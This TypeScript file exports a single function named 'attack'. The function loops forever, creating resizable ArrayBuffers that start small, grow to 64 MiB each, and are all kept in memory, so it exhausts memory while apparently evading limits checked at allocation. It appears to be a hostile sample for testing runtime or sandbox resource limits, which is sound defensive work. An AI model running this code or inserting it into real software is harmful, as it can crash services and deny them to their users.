/** Small when they are made, large afterwards. */
export async function attack() {
  const all: unknown[] = [];
  for (;;) {
    const buffer = new (ArrayBuffer as any)(1, { maxByteLength: 2 ** 30 });
    buffer.resize(64 * 2 ** 20);
    new Uint8Array(buffer).fill(1);
    all.push(buffer);
    await new Promise((done) => setTimeout(done, 20));
  }
}
